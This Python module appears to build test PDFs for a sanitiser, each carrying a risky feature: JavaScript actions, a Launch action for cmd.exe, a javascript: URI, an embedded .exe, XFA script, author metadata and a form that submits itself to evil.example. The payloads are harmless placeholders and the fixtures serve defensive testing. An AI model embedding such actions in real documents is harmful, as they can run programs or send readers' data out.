"""PDF files for the corpus, good and bad."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from .make_pictures import jpeg_with_exif

SECRET = "Jan Kowalski"


def pdf(change=None, **options) -> bytes:
    """One page with a line of text; ``change(pdf)`` makes it worse."""
    document = Pdf.new()
    document.add_blank_page(page_size=(300, 200))
    page = document.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = Stream(document, b"BT /F1 24 Tf 20 100 Td (Raport) Tj ET")
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def _script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def with_script(document):
    """Runs when opened, when a page is shown, and by name."""
    document.Root.OpenAction = _script("app.alert('open')")
    document.pages[0].AA = Dictionary(O=_script("app.alert('page')"))
    tree = Dictionary(Names=Array([String("x"), _script("app.alert('name')")]))
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))


def with_launch(document):
    """A link that starts a program, and one that opens a page of the web."""
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    harmless = Dictionary(
        S=Name.URI, URI=String("https://example.org/raport"), Next=_script("next()")
    )
    wicked = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    document.pages[0].Annots = Array(
        [_annotation(document, "/Link", A=act) for act in (launch, harmless, wicked)]
    )


def with_attachment(document):
    """Another file inside, in the tree and pinned to the page."""
    document.attachments["tajne.exe"] = b"MZ" + b"wykaz-osob" * 50
    document.pages[0].Annots = Array(
        [_annotation(document, "/FileAttachment", Contents=String("zalacznik"))]
    )


def with_author(document):
    """Author and program in both places that hold them, and in a remark."""
    document.docinfo["/Author"] = SECRET
    document.docinfo["/Title"] = "Kowalski-tytul"
    with document.open_metadata(set_pikepdf_as_editor=False) as words:
        words["dc:creator"] = ["Kowalski-XMP"]
        words["xmp:CreatorTool"] = "Komputer-Kowalskiego"
    document.pages[0].PieceInfo = Dictionary(
        App=Dictionary(Private=String("Kowalski-piece"))
    )
    document.pages[0].Annots = Array(
        [
            _annotation(
                document,
                "/Text",
                T=String("Kowalski-autor"),
                M=String("D:20260101120000"),
                Contents=String("uwaga"),
            )
        ]
    )


def with_form(document):
    """A form in XFA, which is a program in XML, and a signature with a certificate."""
    signature = Dictionary(
        Type=Name.Sig, Name=String("Kowalski-podpis"), Contents=b"PESEL-44051401359"
    )
    field = Dictionary(
        FT=Name.Sig, T=String("podpis"), V=document.make_indirect(signature)
    )
    document.Root.AcroForm = Dictionary(
        Fields=Array([document.make_indirect(field)]),
        XFA=Stream(document, b"<xdp:xdp><script>xfa-program</script></xdp:xdp>"),
    )


def with_dynamic_form(document):
    """Nothing but XFA: its page says "please wait"."""
    with_form(document)
    document.Root.NeedsRendering = True


def with_photo(document):
    """A photo with a place in it, drawn on the page."""
    picture = Stream(document, jpeg_with_exif())
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.Width, picture.Height = 64, 48
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    picture.Filter = Name.DCTDecode
    document.pages[0].Resources.XObject = Dictionary(Im0=picture)
    document.pages[0].Contents = Stream(document, b"q 64 0 0 48 10 10 cm /Im0 Do Q")


def with_film(document):
    """A film, a scene and a form that sends itself somewhere."""
    send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    document.pages[0].Annots = Array(
        [
            _annotation(document, "/RichMedia", Contents=String("film")),
            _annotation(document, "/Screen", Contents=String("ekran")),
            _annotation(document, "/Widget", T=String("pole"), A=send),
        ]
    )


def with_many_pages(document):
    """More pages than anybody reads."""
    for _number in range(400):
        document.add_blank_page(page_size=(100, 100))


def with_earlier_version() -> bytes:
    """A file saved twice, with the first version still readable inside."""
    whole = pdf(lambda document: document.docinfo.__setitem__("/Old", "Kowalski-stary"))
    return whole + b"\n% " + b"Kowalski-dopisany" + b"\n%%EOF\n"


def encrypted(user: str) -> bytes:
    """Protected; with an empty password for reading anybody opens it."""
    lock = pikepdf.Encryption(user=user, owner="wlasciciel")
    return pdf(encryption=lock)


def _annotation(document, kind: str, **values):
    return document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name(kind),
            Rect=Array([10, 10, 50, 50]),
            **values,
        )
    )
